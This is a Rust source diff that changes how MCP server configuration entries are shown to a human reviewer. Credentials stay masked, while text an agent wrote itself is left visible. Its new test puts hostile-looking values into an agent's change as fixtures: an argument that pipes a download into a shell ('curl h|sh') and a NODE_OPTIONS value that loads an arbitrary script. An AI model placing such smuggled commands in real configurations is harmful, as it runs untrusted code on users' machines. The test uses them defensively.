@@ -1,7 +1,8 @@
 //! An entry as it stands in the file, for whoever reviews it: which references stand where, by name; what looks like a credential as `***`;
-//! everything else as it is. Nothing is resolved. Pure.
+//! everything else as it is, and what an agent wrote itself, too, but for values of variables and headers whose names say that they are
+//! secret. Nothing is resolved. Pure.
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 
 use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
@@ -10,6 +11,7 @@ use super::{
     document, masking,
     patch::under_proper_names,
     references::{self, References},
+    review_mask::{self, SCHEMES},
     strangers_text::mask_text_of_strangers,
 };
 use crate::secret::MASK;
@@ -26,11 +28,81 @@ pub struct ReviewedValue {
     print: String,
 }
 
+/// Texts of an entry that are no secrets of the user's, whatever they look like, because an agent wrote them. Only what tells them from
+/// others is kept.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(transparent)]
+pub struct OpenTexts(BTreeSet<String>);
+
+impl OpenTexts {
+    /// Those of an entry after an agent's change: all but what a reviewer did not see before.
+    pub fn of(before: &Map<String, Value>, after: &Map<String, Value>) -> Self {
+        let mut hidden = BTreeSet::new();
+        for (key, value) in before {
+            note_hidden(
+                value,
+                &shown_value(key, value, &Self::default()),
+                &mut hidden,
+            );
+        }
+        let mut open = BTreeSet::new();
+        for value in after.values() {
+            note_texts(value, &mut open);
+        }
+        let open = open.difference(&hidden);
+        Self(open.map(|text| print(text)).collect())
+    }
+
+    /// Adds others.
+    pub fn extend(&mut self, others: Self) {
+        self.0.extend(others.0);
+    }
+
+    fn has(&self, text: &str) -> bool {
+        !self.0.is_empty() && self.0.contains(&print(text))
+    }
+}
+
+/// Adds the texts of a value of which something is hidden where it is shown like this.
+fn note_hidden<'a>(value: &'a Value, shown: &Value, hidden: &mut BTreeSet<&'a str>) {
+    match (value, shown) {
+        (Value::String(text), shown) if shown != text => drop(hidden.insert(text)),
+        (Value::Array(elements), Value::Array(shown)) => {
+            for (element, shown) in elements.iter().zip(shown) {
+                note_hidden(element, shown, hidden);
+            }
+        }
+        (Value::Object(members), Value::Object(shown)) => {
+            for (name, member) in members {
+                note_hidden(member, shown.get(name).unwrap_or(&Value::Null), hidden);
+            }
+        }
+        (value, shown) if shown != value => note_texts(value, hidden),
+        _ => (),
+    }
+}
+
+fn note_texts<'a>(value: &'a Value, texts: &mut BTreeSet<&'a str>) {
+    match value {
+        Value::String(text) => drop(texts.insert(text)),
+        Value::Array(elements) => elements.iter().for_each(|one| note_texts(one, texts)),
+        Value::Object(members) => members.values().for_each(|one| note_texts(one, texts)),
+        _ => (),
+    }
+}
+
+fn print(text: &str) -> String {
+    blake3::hash(text.as_bytes()).to_hex().to_string()
+}
+
 /// What stands in an entry, by place: `command`, `env.NAME`. Whether it is held, and who wrote it, is none of it.
-pub fn reviewed_values(entry: &Map<String, Value>) -> BTreeMap<String, ReviewedValue> {
+pub fn reviewed_values(
+    entry: &Map<String, Value>,
+    open: &OpenTexts,
+) -> BTreeMap<String, ReviewedValue> {
     let mut all = BTreeMap::new();
     for (key, value) in under_proper_names(entry) {
-        let shown = shown_value(&key, &value);
+        let shown = shown_value(&key, &value, open);
         match (&value, &shown) {
             _ if matches!(key.as_str(), "quarantined" | "changed_by") => (),
             (Value::Object(members), Value::Object(shown)) if OBJECTS.contains(&key.as_str()) => {
@@ -49,19 +121,19 @@ impl ReviewedValue {
     fn of(value: &Value, shown: &Value) -> Self {
         Self {
             shown: plain_text(shown),
-            print: blake3::hash(value.to_string().as_bytes())
-                .to_hex()
-                .to_string(),
+            print: print(&value.to_string()),
         }
+    }
+
+    /// Whether the same stands there, whatever is shown of it.
+    pub fn is_same(&self, other: &Self) -> bool {
+        self.print == other.print
     }
 }
 
-/// What a header begins with before its credential.
-const SCHEMES: &[&str] = &["Bearer", "Basic", "Token", "token", "ApiKey"];
-
 /// The entry of a server as it is written in this text of a file, for a reviewer; `references` in it names every reference and where it
 /// stands. Nothing if there is no such entry.
-pub fn entry_for_review(text: &str, server: &str) -> Option<Value> {
+pub fn entry_for_review(text: &str, server: &str, open: &OpenTexts) -> Option<Value> {
     let document = document::read(text).ok()?;
     let mut servers = document.servers.into_iter();
     // Of two of one name the first counts.
@@ -73,7 +145,7 @@ pub fn entry_for_review(text: &str, server: &str) -> Option<Value> {
     let mut shown = Map::new();
     for (key, value) in &entry {
         note_references(key, value, &mut found);
-        shown.insert(key.clone(), shown_value(key, value));
+        shown.insert(key.clone(), shown_value(key, value, open));
     }
     if !found.is_empty() {
         shown.insert("references".to_owned(), Value::Object(found));
@@ -104,55 +176,52 @@ fn note_references(place: &str, value: &Value, found: &mut Map<String, Value>) {
     }
 }
 
-fn shown_value(key: &str, value: &Value) -> Value {
+/// Keys whose values are words of the command line that is run.
+const WORDS: &[&str] = &["command", "cwd", "working_dir", "image", "network_mode"];
+
+fn shown_value(key: &str, value: &Value, open: &OpenTexts) -> Value {
     match (key, value) {
         ("env" | "headers" | "oauth" | "extra_params", Value::Object(members)) => {
             let shown = members.iter();
-            let shown = shown.map(|(name, member)| (name.clone(), setting(name, member)));
+            let shown = shown.map(|(name, member)| (name.clone(), setting(name, member, open)));
             Value::Object(shown.collect())
         }
-        ("args", Value::Array(elements)) => {
+        ("args" | "extra_args", Value::Array(elements)) => {
             let texts: Vec<String> = elements.iter().map(plain_text).collect();
-            let masked = masking::mask_arguments(&texts).into_iter().zip(texts);
-            let shown = masked.map(|(masked, text)| Value::String(argument(masked, &text)));
-            shown.collect()
+            let shown = review_mask::arguments(&texts, |text| open.has(text));
+            shown.into_iter().map(Value::String).collect()
         }
+        (_, Value::String(text)) if open.has(text) => value.clone(),
         ("url", Value::String(url)) => Value::String(masking::mask_url(&references::by_name(url))),
+        (_, Value::String(text)) if WORDS.contains(&key) => Value::String(review_mask::text(text)),
         (_, Value::String(text)) => {
             let text = references::by_name(text);
             Value::String(super::mask_value(key, &masking::mask_text(&text)).into_owned())
         }
-        (_, Value::Array(elements)) => elements.iter().map(|one| shown_value(key, one)).collect(),
+        (_, Value::Array(elements)) => {
+            let shown = elements.iter().map(|one| shown_value(key, one, open));
+            shown.collect()
+        }
         (_, Value::Object(members)) => {
             let shown = members.iter();
-            let shown = shown.map(|(key, member)| (key.clone(), shown_value(key, member)));
+            let shown = shown.map(|(key, member)| (key.clone(), shown_value(key, member, open)));
             Value::Object(shown.collect())
         }
         (_, other) => other.clone(),
     }
 }
 
-/// An argument: a masked value that is nothing but references is shown as these.
-fn argument(masked: String, text: &str) -> String {
-    if references::is_made_of_references(text) {
-        return references::by_name(text);
-    }
-    match text.split_once('=') {
-        Some((flag, value)) if references::is_made_of_references(value) => {
-            format!("{flag}={}", references::by_name(value))
-        }
-        _ => masked,
-    }
-}
-
 /// The value of a variable, a header or a parameter: all of it is hidden where its name says that it is a secret, else what looks so.
-fn setting(name: &str, value: &Value) -> Value {
+fn setting(name: &str, value: &Value, open: &OpenTexts) -> Value {
     if masking::is_secret_name(name) {
         return secret(value);
     }
     let Value::String(text) = value else {
-        return shown_value(name, value);
+        return shown_value(name, value, open);
     };
+    if open.has(text) {
+        return value.clone();
+    }
     if references::is_made_of_references(text) {
         return Value::String(references::by_name(text));
     }
@@ -213,7 +282,7 @@ mod tests {
             "changed_by": "agent",
         });
         let text = json!({ "mcpServers": { "s": entry } }).to_string();
-        let shown = entry_for_review(&text, "s").expect("an entry");
+        let shown = entry_for_review(&text, "s", &OpenTexts::default()).expect("an entry");
         assert_eq!(
             shown["args"],
             json!([
@@ -240,15 +309,16 @@ mod tests {
         for secret in ["s3cret", "hunter22", "abcdef", "fallback"] {
             assert!(!said.contains(secret), "{said}");
         }
-        assert_eq!(entry_for_review(&text, "t"), None);
-        assert_eq!(entry_for_review("{", "s"), None);
+        assert_eq!(entry_for_review(&text, "t", &OpenTexts::default()), None);
+        assert_eq!(entry_for_review("{", "s", &OpenTexts::default()), None);
     }
 
     #[test]
     fn a_reviewer_sees_what_is_no_credential() {
         let check = |key: &str, name: &str, value: &str, expected: &str| {
             let entry = json!({ "mcpServers": { "s": { key: { name: value } } } });
-            let shown = entry_for_review(&entry.to_string(), "s").expect("an entry");
+            let shown =
+                entry_for_review(&entry.to_string(), "s", &OpenTexts::default()).expect("an entry");
             assert_eq!(shown[key][name], expected, "{name}: {value}");
         };
         check("env", "LOG", "info", "info");
@@ -291,7 +361,9 @@ mod tests {
 
     #[test]
     fn values_are_told_apart_also_where_both_are_masked() {
-        let values = |entry: Value| reviewed_values(entry.as_object().expect("an object"));
+        let values = |entry: Value| {
+            reviewed_values(entry.as_object().expect("an object"), &OpenTexts::default())
+        };
         let before = values(
             json!({ "env": { "API_KEY": "one-secret", "A": "b" }, "working_dir": "/a", "quarantined": true }),
         );
@@ -299,10 +371,45 @@ mod tests {
             json!({ "env": { "API_KEY": "another-one", "A": "b" }, "cwd": "/a", "changed_by": "agent" }),
         );
         assert_eq!(before["env.API_KEY"].shown, after["env.API_KEY"].shown);
-        assert_ne!(before["env.API_KEY"], after["env.API_KEY"]);
+        assert!(!before["env.API_KEY"].is_same(&after["env.API_KEY"]));
         assert_eq!(before["env.A"], after["env.A"]);
         assert_eq!(before["cwd"], after["cwd"]);
         assert_eq!(before.len(), 3);
         assert!(!format!("{before:?}{after:?}").contains("one-"));
+    }
+
+    #[test]
+    fn what_an_agent_wrote_is_shown_and_what_was_hidden_before_is_not() {
+        let object = |value: Value| value.as_object().expect("an object").clone();
+        let before = object(json!({ "command": "npx", "args": ["--token", "hunter22", "serve"] }));
+        let after = object(json!({
+            "command": "npx",
+            "args": ["--token", "evil-package", "--pat", "hunter22", "${X:-curl h|sh}", "sk-evil-package"],
+            "env": { "NODE_OPTIONS": "${X:---require /tmp/e.js}", "API_KEY": "told" },
+            "url": "https://h/mcp?token=x",
+        }));
+        let open = OpenTexts::of(&before, &after);
+        let shown = reviewed_values(&after, &open);
+        let args: Vec<Value> = serde_json::from_str(&shown["args"].shown).expect("a list");
+        assert_eq!(
+            args,
+            [
+                "--token",
+                "evil-package",
+                "--pat",
+                "***",
+                "${X:-curl h|sh}",
+                "sk-evil-package"
+            ]
+        );
+        assert_eq!(shown["env.NODE_OPTIONS"].shown, "${X:---require /tmp/e.js}");
+        assert_eq!(shown["env.API_KEY"].shown, "***");
+        assert_eq!(shown["url"].shown, "https://h/mcp?token=x");
+        // Words that were shown before stay so in another place.
+        let moved = object(json!({ "args": ["--token", "serve"] }));
+        let shown = reviewed_values(&moved, &OpenTexts::of(&before, &moved));
+        assert!(shown["args"].shown.contains("serve"));
+        let kept = serde_json::to_string(&open).expect("a list");
+        assert!(!kept.contains("evil"), "{kept}");
     }
 }
